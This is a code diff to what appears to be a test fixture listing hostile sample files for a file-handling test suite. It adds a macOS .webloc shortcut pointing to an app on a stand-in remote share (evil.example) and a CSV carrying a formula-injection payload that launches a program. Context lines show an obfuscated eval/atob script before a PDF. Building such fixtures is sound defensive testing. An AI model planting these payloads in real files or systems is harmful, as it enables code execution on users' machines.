@@ -56,6 +56,8 @@ export const HOSTILE = {
   'a zip of programs that calls itself an e-book': { name: 'book.epub', make: disguisedBook },
   'a Word document with a part that lies about its size': { name: 'part.docx', make: lyingPart },
   'a Word document nested deep': { name: 'deep.docx', make: () => document('<w:p>'.repeat(1_500_000)) },
+  'a shortcut of macOS to a share': { name: 'bank.webloc', make: webloc },
+  'a table that runs a program': { name: 'prices.csv', make: () => join("name,price\na,=cmd|'/C calc'!A0\n") },
   'UTF-16 without a mark': { name: 'little.txt', make: () => utf16WithoutMark('little') },
   'UTF-16 the other way round, without a mark': { name: 'big.txt', make: () => utf16WithoutMark('big') },
   'Latin-1': { name: 'latin1.txt', make: latin1Text },
@@ -139,6 +141,11 @@ function scripts(): Uint8Array {
 
 function pageBeforePdf(): Uint8Array {
   return join('<html><script>eval(atob("YWxlcnQoMSk="))</script></html>\n', onePage());
+}
+
+function webloc(): Uint8Array {
+  const target = '<key>URL</key><string>file:////evil.example/share/x.app</string>';
+  return join(`<?xml version="1.0"?><plist version="1.0"><dict>${target}</dict></plist>`);
 }
 
 function longNames(): Uint8Array {
